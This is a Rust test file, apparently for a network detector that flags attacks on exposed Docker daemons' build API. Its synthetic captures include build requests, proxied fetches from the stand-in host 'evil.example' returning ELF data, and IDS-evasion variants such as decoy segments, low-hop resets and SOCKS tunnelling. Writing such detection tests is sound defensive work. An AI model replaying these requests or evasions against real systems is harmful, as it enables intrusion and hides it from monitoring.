//! The same build, carried in other ways.

use tw_testkit::{Conversation, Packet, RST, SYN, http_request, tcp_packet, with_checksums};

use super::stage::{
    BUILDER, Case, DAEMON, DOCKERFILE, HOST, KNOWN, PROXY, SILENT, STRANGER, address, at, attack,
    build, built, call, caller, download, fetched, json_answer, merged, name, seconds,
    through_proxy, tls,
};
use crate::support::check_all;

const MAC: [u8; 6] = [0x02, 0, 10, 10, 1, 5];

fn clear() -> Vec<u8> {
    build("/v1.41/build?t=evil:1&q=1", DOCKERFILE)
}

fn quietly() -> Vec<u8> {
    build("/v1.41/build?t=evil:1&q=1", SILENT)
}

#[test]
fn ports_and_addresses_hide_no_build() {
    let on_port = |daemon| merged([call(daemon, &clear(), &built()), fetched()]);
    let behind_nat = merged([
        call(DAEMON, &quietly(), &built()),
        from_mac(download("172.17.0.2", "203.0.113.9:80", at(1.0)), MAC),
    ]);
    let second = merged([call("10.10.1.105:2375", &quietly(), &built()), fetched()]);
    let config = "[[docker_host]]\naddress = \"10.10.1.5\"\naliases = [\"10.10.1.105\"]\n";
    let over_v6 = merged([
        call(DAEMON, &quietly(), &built()).into_iter().map(to_v6).collect(),
        call(
            "10.10.1.5:2376",
            &http_request("GET", "/v1.41/info", &[], b""),
            &json_answer("200 OK", "{}"),
        ),
        fetched(),
    ]);
    let all_v6 =
        merged([call(DAEMON, &clear(), &built()), download(HOST, "203.0.113.9:80", at(1.0))]);
    let cases = [
        Case::attack("port 80", on_port("10.10.1.5:80")),
        Case::attack("port 443", on_port("10.10.1.5:443")),
        Case::attack("port 53", on_port("10.10.1.5:53")),
        Case::attack("port 3128", on_port("10.10.1.5:3128")),
        Case::attack("port 8080", on_port("10.10.1.5:8080")),
        Case::attack("port 12345", on_port("10.10.1.5:12345")),
        Case::attack("a container's address", behind_nat).unnamed(),
        Case::attack("a second address", second).unnamed().on("10.10.1.105").configured(config),
        Case::attack("IPv6 daemon, IPv4 download", over_v6).unnamed().on("2001:db8::a0a:105"),
        Case::attack("IPv6", all_v6.into_iter().map(to_v6).collect())
            .unnamed()
            .on("2001:db8::a0a:105")
            .to("2001:db8::cb00:7109"),
    ];
    check_all(&cases, Case::complaints);
}

#[test]
fn the_course_of_time_hides_no_build() {
    let slow = {
        let request = clear();
        let (first, rest) = request.split_at(request.len() - 600);
        let api =
            Conversation::open(address(&format!("{STRANGER}:40000")), address(DAEMON), at(0.0))
                .client_sends(first)
                .wait(seconds(3))
                .client_sends(rest)
                .wait(seconds(2))
                .server_sends(&built())
                .close();
        merged([api, fetched()])
    };
    let whole = attack(&clear());
    let cut = whole.len() / 3;
    let (head, tail) = whole.split_at(cut);
    let unended: Vec<Packet> = {
        let mut api = call(DAEMON, &clear(), &built());
        api.retain(|packet| packet.at < at(1.5));
        merged([api, fetched()])
    };
    let cancelled = {
        let mut api = call(DAEMON, &clear(), &[]);
        api.retain(|packet| packet.at < at(1.5));
        let reset = tcp_packet(
            (address(&format!("{STRANGER}:40000")), address(DAEMON)),
            (1001 + u32::try_from(clear().len()).expect("short"), 5001),
            RST | 16,
            &[],
        );
        api.push(Packet { at: at(1.8), frame: reset });
        merged([api, fetched()])
    };
    let cases = [
        Case::attack("upload goes on", slow),
        Case::attack(
            "in the grace",
            merged([call(DAEMON, &clear(), &built()), download(HOST, "203.0.113.9:80", at(6.0))]),
        ),
        Case::attack("two files", head.to_vec()).and_file(tail.to_vec()),
        Case::attack("two files, the later first", tail.to_vec()).and_file(head.to_vec()),
        Case::attack("no end", unended),
        Case::attack("cancelled", cancelled),
    ];
    check_all(&cases, Case::complaints);
}

#[test]
fn damaged_and_forged_packets_hide_no_build() {
    let wrong_sums = attack(&clear()).into_iter().map(|mut packet| {
        packet.frame[50] ^= 0x5a;
        packet
    });
    let cases = [
        Case::attack("wrong checksums", wrong_sums.collect()),
        Case::attack("another copy with other bytes", with_copies()),
        Case::attack("a decoy with a wrong checksum", with_decoys(|frame| frame[50] ^= 0x5a)),
        Case::attack(
            "a decoy that does not arrive",
            with_decoys(|frame| {
                frame[22] = 2;
                with_checksums(frame);
            }),
        ),
        Case::attack(
            "a decoy without ACK",
            with_decoys(|frame| {
                frame[47] &= !0x10;
                with_checksums(frame);
            }),
        ),
        Case::attack("a reset that does not arrive", with_resets()),
        Case::attack("a blind reset", with_forged(RST, 0x7000_0000)),
        Case::attack("a forged SYN", with_forged(SYN, 0x7000_0000)),
        Case::attack("a forged FIN", with_forged(1 | 16, 0x7000_0000)),
        Case::attack("all twice", twice(attack(&clear()))),
    ];
    check_all(&cases, Case::complaints);
}

#[test]
fn proxies_hide_no_destination() {
    let opened = |first: &[u8], answer: &[u8]| {
        Conversation::open(address(&format!("{HOST}:41000")), address(PROXY), at(1.0))
            .client_sends(first)
            .server_sends(answer)
    };
    let hello = super::stage::client_hello("evil.example");
    let connect = opened(
        b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
        b"HTTP/1.1 200 OK\r\n\r\n",
    )
    .client_sends(&hello)
    .server_sends(&[0x5a; 3000])
    .close();
    let absolute = through_proxy(HOST, PROXY, "evil.example", at(1.0));
    let socks = opened(&[5, 1, 0], &[5, 0])
        .client_sends(b"\x05\x01\x00\x03\x0cevil.example\x01\xbb")
        .server_sends(&[5, 0, 0, 1, 0, 0, 0, 0, 0, 0])
        .client_sends(&hello)
        .server_sends(&[0x5a; 3000])
        .close();
    let own_socks =
        Conversation::open(address(&format!("{HOST}:41000")), address("203.0.113.9:1080"), at(1.0))
            .client_sends(&[5, 1, 0])
            .server_sends(&[5, 0])
            .client_sends(b"\x05\x01\x00\x03\x0fcdn.example.net\x01\xbb")
            .server_sends(&[5, 0, 0, 1, 0, 0, 0, 0, 0, 0])
            .client_sends(b"give")
            .server_sends(&[0x7f; 3000])
            .close();
    let socks4a =
        opened(b"\x04\x01\x00\x50\x00\x00\x00\x01\x00evil.example\x00", &[0, 90, 0, 0, 0, 0, 0, 0])
            .client_sends(b"GET /x HTTP/1.1\r\nHost: evil.example\r\n\r\n")
            .server_sends(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\n\x7fELF")
            .close();
    let through = |download: Vec<Packet>| merged([call(DAEMON, &quietly(), &built()), download]);
    let proxied_build = merged([
        call(
            "10.10.1.9:3128",
            &build("http://10.10.1.5:2375/v1.41/build?t=evil:1&q=1", DOCKERFILE),
            &built(),
        ),
        caller("10.10.1.9", DAEMON, at(0.1), &clear(), &built()),
        fetched(),
    ]);
    let cases = [
        Case::attack("CONNECT", through(connect)).unnamed().to("evil.example"),
        Case::attack("absolute form", through(absolute)).unnamed().to("evil.example"),
        Case::attack(
            "a proxy that nobody knows",
            through(through_proxy(HOST, "203.0.113.9:8080", "cdn.example.net", at(1.0))),
        )
        .unnamed(),
        Case::attack("a SOCKS proxy that nobody knows", through(own_socks)).unnamed(),
        Case::attack("SOCKS5", through(socks)).unnamed().to("evil.example"),
        Case::attack("SOCKS4a", through(socks4a)).unnamed().to("evil.example"),
        Case::attack("the call through a proxy", proxied_build),
    ];
    check_all(&cases, Case::complaints);
}

/// A known proxy that is spoken to in TLS makes no finding: the build says that it was there.
#[test]
fn a_proxy_that_cannot_be_read_is_said_of_the_build() {
    let given = "/v1.41/build?t=evil:1&q=1&buildargs=%7B%22https_proxy%22%3A%22https%3A%2F%2F10.10.1.9%3A3128%22%7D";
    let env = "FROM alpine:3.18\nENV HTTPS_PROXY https://10.10.1.9:3128\nRUN make\n";
    let opaque = tls(HOST, PROXY, "cdn.example.net", at(1.0));
    let before = through_proxy(HOST, PROXY, "cdn.example.net", at(-60.0));
    let listed = "[policy]\nproxies = [\"10.10.1.9:3128\"]\n";
    let quiet = |name, request: &[u8], before: &[Packet]| {
        Case::quiet(
            name,
            merged([before.to_vec(), call(DAEMON, request, &built()), opaque.clone()]),
        )
    };
    let silent = quietly();
    let cases = [
        quiet("asked in clear before", &silent, &before),
        quiet("a build argument", &build(given, SILENT), &[]),
        quiet("a variable of the Dockerfile", &build("/build?t=evil:1&q=1", env), &[]),
        quiet("configured", &silent, &[]).configured(listed),
    ];
    for case in &cases {
        assert_eq!(case.complaints(), Vec::<String>::new());
        assert_eq!(case.caveats_of_builds(), ["proxied"], "{case:?}");
    }
    assert!(quiet("nobody said so", &silent, &[]).caveats_of_builds().is_empty());
}

#[test]
fn a_known_address_hides_no_new_name() {
    let server = format!("{KNOWN}:443");
    let shared = merged([
        call(DAEMON, &quietly(), &built()),
        name(HOST, "evil.example", [203, 0, 113, 80], at(0.8)),
        tls(HOST, &server, "evil.example", at(1.0)),
    ]);
    let undeclared =
        merged([call(DAEMON, &quietly(), &built()), tls(HOST, &server, "evil.example", at(1.0))]);
    let fronted = merged([
        call(DAEMON, &quietly(), &built()),
        tls(HOST, "203.0.113.9:443", "cdn.example.net", at(1.0)),
    ]);
    let raw = |port: u16| {
        let server = address(&format!("203.0.113.9:{port}"));
        let download = Conversation::open(address(&format!("{HOST}:41000")), server, at(1.0))
            .client_sends(b"give\n")
            .server_sends(&[0x7f; 3000])
            .close();
        merged([call(DAEMON, &quietly(), &built()), download])
    };
    let to_853 =
        merged([call(DAEMON, &quietly(), &built()), download(HOST, "203.0.113.9:853", at(1.0))]);
    let asks = http_request("GET", "/x", &[("Host", "evil.example")], b"");
    let virtual_host = merged([
        call(DAEMON, &quietly(), &built()),
        caller(
            HOST,
            &format!("{KNOWN}:80"),
            at(0.9),
            &asks,
            b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\n\x7fELF",
        ),
    ]);
    let to_53 =
        merged([call(DAEMON, &quietly(), &built()), download(HOST, "203.0.113.9:53", at(1.0))]);
    let cases = [
        Case::attack("new name", shared).unnamed().to(KNOWN),
        Case::attack("new name without DNS", undeclared).unnamed().to(KNOWN),
        Case::attack("known name at a new address", fronted).unnamed(),
        Case::attack("port 53", to_53).unnamed(),
        Case::attack("port 53, raw", raw(53)).unnamed(),
        Case::attack("port 853, HTTP", to_853).unnamed(),
        Case::attack("a Host header that nobody knows", virtual_host).unnamed().to(KNOWN),
    ];
    check_all(&cases, Case::complaints);
}

#[test]
fn a_builder_is_not_above_suspicion() {
    let packets = merged([caller(BUILDER, DAEMON, at(0.0), &clear(), &built()), fetched()]);
    check_all(&[Case::attack("known builder", packets)], Case::complaints);
}

/// Every data segment of the request comes again with other bytes, which a stack does not take.
fn with_copies() -> Vec<Packet> {
    let mut packets = Vec::new();
    for packet in call(DAEMON, &clear(), &built()) {
        let mut copy = packet.clone();
        packets.push(packet);
        if is_upload(&copy) {
            copy.frame[54..].fill(b'A');
            packets.push(copy);
        }
    }
    merged([packets, fetched()])
}

/// Ahead of each piece of the upload a copy with other bytes, which the daemon drops.
fn with_decoys(spoil: impl Fn(&mut [u8])) -> Vec<Packet> {
    let mut packets = Vec::new();
    for packet in call(DAEMON, &clear(), &built()) {
        if is_upload(&packet) {
            let mut decoy = packet.clone();
            decoy.frame[54..].fill(b'A');
            with_checksums(&mut decoy.frame);
            spoil(&mut decoy.frame);
            packets.push(decoy);
        }
        packets.push(packet);
    }
    merged([packets, fetched()])
}

/// Ahead of each piece of the upload a RST with its sequence number and two hops to go.
fn with_resets() -> Vec<Packet> {
    let mut packets = Vec::new();
    for packet in call(DAEMON, &clear(), &built()) {
        if is_upload(&packet) {
            let mut reset = packet.clone();
            (reset.frame[22], reset.frame[47]) = (2, RST);
            with_checksums(&mut reset.frame);
            packets.push(reset);
        }
        packets.push(packet);
    }
    merged([packets, fetched()])
}

fn is_upload(packet: &Packet) -> bool {
    packet.frame.len() > 60 && packet.frame[36..38] == 2375_u16.to_be_bytes()
}

/// A third party's packet in the middle of the upload, far outside of the window.
fn with_forged(flags: u8, seq: u32) -> Vec<Packet> {
    let ends = (address(&format!("{STRANGER}:40000")), address(DAEMON));
    let mut packets = attack(&clear());
    let forged = Packet { at: packets[3].at, frame: tcp_packet(ends, (seq, 1), flags, &[]) };
    packets.insert(4, forged);
    packets
}

fn twice(packets: Vec<Packet>) -> Vec<Packet> {
    packets.into_iter().flat_map(|packet| [packet.clone(), packet]).collect()
}

fn from_mac(packets: Vec<Packet>, mac: [u8; 6]) -> Vec<Packet> {
    let outward = |packet: &Packet| packet.frame[26] == 172;
    packets
        .into_iter()
        .map(|mut packet| {
            let place = if outward(&packet) { 6..12 } else { 0..6 };
            packet.frame[place].copy_from_slice(&mac);
            packet
        })
        .collect()
}

/// RFC 8200 §3: the same segment between 2001:db8::a0a:105 and the like.
fn to_v6(packet: Packet) -> Packet {
    let (link, ipv4) = packet.frame.split_at(14);
    let (header, segment) = ipv4.split_at(20);
    let mut frame = link[..12].to_vec();
    frame.extend_from_slice(&[0x86, 0xdd, 0x60, 0, 0, 0]);
    frame.extend_from_slice(&u16::try_from(segment.len()).expect("a segment").to_be_bytes());
    frame.extend_from_slice(&[header[9], 64]);
    for ip in [&header[12..16], &header[16..20]] {
        frame.extend_from_slice(&[0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0]);
        frame.extend_from_slice(ip);
    }
    frame.extend_from_slice(segment);
    Packet { frame, ..packet }
}
